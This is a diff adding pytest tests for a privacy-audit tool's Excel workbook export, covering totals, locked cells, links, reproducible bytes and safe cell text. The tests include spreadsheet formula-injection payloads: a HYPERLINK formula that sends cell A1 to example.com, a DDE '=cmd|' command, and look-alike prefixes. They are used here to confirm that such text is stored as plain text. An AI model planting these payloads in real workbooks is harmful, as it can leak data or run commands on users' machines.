@@ -1,0 +1,273 @@
+"""audit.xlsx as other programs read it: what it counts, what may be written into, what never becomes a formula."""
+
+import hashlib
+import io
+import json
+import os
+import re
+import subprocess
+import sys
+import zipfile
+from datetime import date
+
+import openpyxl
+import pandas as pd
+import pytest
+from bench import make_firm, request, write_register
+from openpyxl.utils import get_column_letter
+from privacy_audit.control import SEVERITIES
+from privacy_audit.reports.excel import excel
+from privacy_audit.reports.excel_book import Book
+from privacy_audit.reports.excel_cells import LONGEST, cleaned
+from privacy_audit.reports.excel_tasks import OWN, STATES
+from privacy_audit.reports.jsonfile import findings_json
+from privacy_audit.reports.screen import SIGNS
+from privacy_audit.request import ROOT
+from privacy_audit.result import audit
+from python_calamine import CalamineWorkbook
+
+LAPTOP = (1366 - 26, 467)  # points on the screen that Excel leaves for cells on a laptop of 1366 by 768, in pixels
+RISKY = ['=HYPERLINK("http://example.com/?x="&A1,"Pay")', "=cmd|'/c calc'!A1", "+44 20 7946 0000", "-2+3"]
+HASHES = """
+import hashlib
+from privacy_audit.reports.excel import excel
+from privacy_audit.reports.excel_accountant import accountant_xlsx
+from privacy_audit.reports.excel_insurer import insurer_xlsx
+from privacy_audit.request import Request
+from privacy_audit.result import audit
+result = audit(Request.of(quarter="2026-Q3"))
+for made in (excel(result), accountant_xlsx(result, "0" * 64), insurer_xlsx(result, "0" * 64)):
+    print(hashlib.sha256(made).hexdigest())
+"""
+
+
+@pytest.fixture(scope="module")
+def made(example):
+    """The example's workbook, as bytes."""
+    return excel(example)
+
+
+@pytest.fixture(scope="module")
+def book(made):
+    """The same, opened by openpyxl with formulas."""
+    return openpyxl.load_workbook(io.BytesIO(made))
+
+
+@pytest.fixture(scope="module")
+def values(made):
+    """The same, opened by openpyxl with the values that previews show."""
+    return openpyxl.load_workbook(io.BytesIO(made), data_only=True)
+
+
+def rows(sheet):
+    """The rows of a sheet's table as dictionaries; its header is the third row."""
+    head = [cell.value for cell in sheet[3]]
+    return [dict(zip(head, [cell.value for cell in row], strict=True)) for row in sheet.iter_rows(min_row=4)]
+
+
+def start_counts(cells):
+    """The numbers of the first sheet's block of states, by the words on their left."""
+    found = {}
+    for row in cells:
+        texts = [each for each in row if each not in {None, ""}]
+        for name in ("All tasks", "▲ critical or ◆ major", "Minutes of work"):
+            if name in texts:
+                found[name] = [int(each) for each in texts[texts.index(name) + 1 :]]
+    return found
+
+
+def expected_counts(example):
+    """The same numbers from findings.json, where every task is open."""
+    tasks = json.loads(findings_json(example))["tasks"]
+    serious = sum(each["severity"] in {"critical", "major"} for each in tasks)
+    counts = {"All tasks": len(tasks), "▲ critical or ◆ major": serious}
+    counts["Minutes of work"] = sum(each["effort"] for each in tasks)
+    return {name: [number, 0, 0, number] for name, number in counts.items()}
+
+
+def test_the_first_sheet_fits_a_laptop_without_scrolling(book, example):
+    """Down to what was not checked, at 100 %, in the points and characters that the cells say they take."""
+    sheet = book["Start here"]
+    last = (
+        next(row[0].row for row in sheet.iter_rows(max_col=1) if str(row[0].value).startswith("This audit covers")) - 1
+    )
+    height = sum(sheet.row_dimensions[number].height for number in range(1, last + 1)) * 96 / 72
+    width = sum(7 * sheet.column_dimensions[get_column_letter(number)].width + 5 for number in range(1, 9))
+    assert (width <= LAPTOP[0], height <= LAPTOP[1]) == (True, True), (width, height)
+    assert sum(str(sheet.cell(row, 1).value).isdigit() for row in range(1, last)) == len(example.first_five)
+
+
+def test_openpyxl_calamine_and_pandas_read_the_totals_of_findings_json(made, values, example):
+    """No program has to calculate anything: formulas carry their values."""
+    content = json.loads(findings_json(example))
+    calamine = CalamineWorkbook.from_filelike(io.BytesIO(made)).get_sheet_by_name("Start here").to_python()
+    frame = pd.read_excel(io.BytesIO(made), sheet_name="Start here", header=None, engine="openpyxl").astype(object)
+    by_pandas = frame.where(frame.notna(), None).to_numpy().tolist()
+    by_openpyxl = list(values["Start here"].iter_rows(values_only=True))
+    for cells in (by_openpyxl, calamine, by_pandas):
+        assert start_counts(cells) == expected_counts(example)
+    found = rows(values["Findings"])
+    assert [each["Finding"] for each in found] == [each["id"] for each in content["findings"]]
+    for name in SEVERITIES:
+        told = sum(each["How serious"] == SIGNS[name] for each in found)
+        assert told == sum(each["severity"] == name for each in content["findings"])
+    checks = {each["Check"]: each for each in rows(values["Checks"])}
+    for each in content["controls"]:
+        row = checks[each["id"]]
+        kinds = ("Rows", "Out of scope", "Kept", "Broken", "Cannot be shown", "Unread")
+        names = ("rows", "out_of_scope", "kept", "broken", "not_shown", "unread")
+        assert [row[kind] for kind in kinds] == [each[name] for name in names]
+
+
+def test_every_formula_stands_on_the_first_sheet_and_has_its_value(book, values):
+    """What was found is literal; the few live cells follow the sheet Tasks."""
+    found = [
+        (sheet.title, cell) for sheet in book for row in sheet.iter_rows() for cell in row if cell.data_type == "f"
+    ]
+    assert {title for title, _ in found} == {"Start here"}
+    assert len(found) >= 12
+    for _, cell in found:
+        assert values["Start here"][cell.coordinate].value is not None
+        assert "Tasks!" in cell.value
+
+
+def test_only_the_yellow_cells_may_be_written_into(book):
+    """Owner, day, state, cause, action and comment of each task, and the answers; everything else is locked."""
+    for sheet in book:
+        assert sheet.protection.sheet, sheet.title
+        open_columns = {cell.column for row in sheet.iter_rows(min_row=4) for cell in row if not cell.protection.locked}
+        assert open_columns == {"Tasks": set(OWN), "Ask": {9, 10}}.get(sheet.title, set()), sheet.title
+    rules = {rule.type: rule for rule in book["Tasks"].data_validations.dataValidation}
+    assert set(rules) == {"list", "date"}
+    lists = [each.formula1 for each in book["Tasks"].data_validations.dataValidation if each.type == "list"]
+    assert f'"{",".join(STATES)}"' in lists
+
+
+def test_nothing_is_hidden_and_the_properties_tell_of_nobody(book, made):
+    """No hidden sheet, row, column or comment, no link elsewhere, no author but the program."""
+    for sheet in book:
+        assert sheet.sheet_state == "visible"
+        assert not any(each.hidden for each in (*sheet.row_dimensions.values(), *sheet.column_dimensions.values()))
+        assert not any(cell.comment for row in sheet.iter_rows() for cell in row)
+        assert sheet.page_setup.paperSize == int(sheet.PAPERSIZE_A4)
+        assert sheet.page_setup.orientation == "landscape"
+    about = book.properties
+    assert (about.creator, about.lastModifiedBy, about.description) == ("privacy-audit", None, None)
+    with zipfile.ZipFile(io.BytesIO(made)) as archive:
+        text = "".join(archive.read(name).decode() for name in archive.namelist())
+    assert "External" not in text
+    assert str(ROOT) not in text
+
+
+def test_findings_tasks_and_checks_are_named_tables(book):
+    """So that a pivot table or a formula of one's own can speak of them by name."""
+    names = {name for sheet in book for name in sheet.tables}
+    assert {"Tasks", "Ask", "Findings", "Sourcerows", "Checks", "Coverage", "Filesread", "Trend"} <= names
+    for sheet in book:
+        for table in sheet.tables.values():
+            head = [cell.value for cell in sheet[table.ref][0]]
+            assert [each.name for each in table.tableColumns] == head
+
+
+def test_every_link_leads_to_a_row_that_is_there(book):
+    """From start to tasks, from findings to checks, rows and tasks."""
+    links = [(sheet, cell.hyperlink) for sheet in book for row in sheet.iter_rows() for cell in row if cell.hyperlink]
+    assert len(links) > 200
+    for _, link in links:
+        title, _, place = link.location.rpartition("!")
+        target = book[title.strip("'")]
+        assert target[place].value is not None, link.location
+
+
+@pytest.mark.slow
+def test_what_looks_like_a_formula_arrives_as_text(tmp_path):
+    """In the workbook itself, in openpyxl and in calamine; LibreOffice is asked in tests/office."""
+    result = audit(risky_firm(tmp_path))
+    content = excel(result)
+    book = openpyxl.load_workbook(io.BytesIO(content))
+    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
+    for text in RISKY:
+        found = [cell for cell in cells if text in str(cell.value)]
+        assert found, text
+        assert {cell.data_type for cell in found} == {"s"}, text
+        assert all(cell.quotePrefix for cell in found if cell.value == text)
+    calamine = CalamineWorkbook.from_filelike(io.BytesIO(content))
+    flat = {
+        value for name in calamine.sheet_names for row in calamine.get_sheet_by_name(name).to_python() for value in row
+    }
+    for text in RISKY:
+        assert any(text in str(value) for value in flat)
+
+
+def risky_firm(folder):
+    """A firm whose suppliers are called like formulas."""
+    firm = make_firm(folder / "firm")
+    suppliers = [
+        {"legal_name": text, "service": "post", "country": "US", "role": "processor", "data_categories": "names"}
+        | {"contract_ref": "", "safeguard": "NONE", "art28_missing": text}
+        for text in RISKY
+    ]
+    write_register(firm / "registers" / "2026-Q3", "processors", suppliers)
+    return request(firm, "2026-Q3")
+
+
+@pytest.mark.parametrize("text", [*RISKY, "@SUM(1+1)", "\t=1+1", "\uff1d1+1", "\uff20SUM(1)"])
+def test_text_that_begins_like_a_formula_is_marked_as_text(text):
+    """Even once somebody has opened the cell and pressed return, or copied it elsewhere."""
+    book = Book("t", "f", date(2026, 10, 1))
+    book.sheet("S", [20]).add([text])
+    cell = openpyxl.load_workbook(io.BytesIO(book.save())).active["A1"]
+    assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)
+
+
+@pytest.mark.parametrize(
+    ("text", "kept"),
+    [
+        ("bell \a and null \0", "bell � and null �"),
+        ("half a pair \ud800", "half a pair �"),
+        ("_x0041_", "_x0041_"),
+        ("  spaces at both ends  ", "  spaces at both ends  "),
+        ("one\r\ntwo", "one\ntwo"),
+        ("<b>&amp;\"'", "<b>&amp;\"'"),
+    ],
+)
+def test_any_text_can_stand_in_a_cell(text, kept):
+    """What XML forbids is replaced, all else comes back as it was."""
+    book = Book("t", "f", date(2026, 10, 1))
+    book.sheet("S", [20]).add([text])
+    content = book.save()
+    value = openpyxl.load_workbook(io.BytesIO(content)).active["A1"].value
+    assert value.replace("_x005F_", "_") == kept
+    assert CalamineWorkbook.from_filelike(io.BytesIO(content)).get_sheet_by_index(0).to_python()[0][0] == kept
+
+
+def test_a_text_too_long_for_a_cell_is_cut_and_says_so():
+    """Excel holds 32,767 characters, one outside the basic plane counting twice."""
+    for text in ("a" * 40_000, "😀" * 20_000):
+        short = cleaned(text)
+        assert len(short.encode("utf-16-le")) // 2 <= LONGEST
+        assert "[cut: the text has 40000 characters]" in short
+    assert cleaned("a" * LONGEST) == "a" * LONGEST
+
+
+@pytest.mark.slow
+def test_two_time_zones_and_hash_seeds_give_the_same_bytes_of_all_three_books():
+    """Nothing of the machine or the moment gets in."""
+    found = []
+    for zone, seed in (("Pacific/Kiritimati", "1"), ("America/Los_Angeles", "2")):
+        environment = os.environ | {"TZ": zone, "PYTHONHASHSEED": seed}
+        done = subprocess.run(
+            [sys.executable, "-c", HASHES], env=environment, cwd=ROOT, capture_output=True, text=True, check=True
+        )
+        found.append(done.stdout.split())
+    assert found[0] == found[1]
+    assert len(set(found[0])) == 3
+
+
+def test_the_text_of_the_workbook_names_no_clock(made):
+    """Created and modified are the day of issue, and the members of the file have no time."""
+    with zipfile.ZipFile(io.BytesIO(made)) as archive:
+        assert {each.date_time for each in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}
+        core = archive.read("docProps/core.xml").decode()
+    assert len(set(re.findall(r"\d{4}-\d\d-\d\dT[\d:]+Z", core))) == 1
+    assert hashlib.sha256(made).hexdigest()
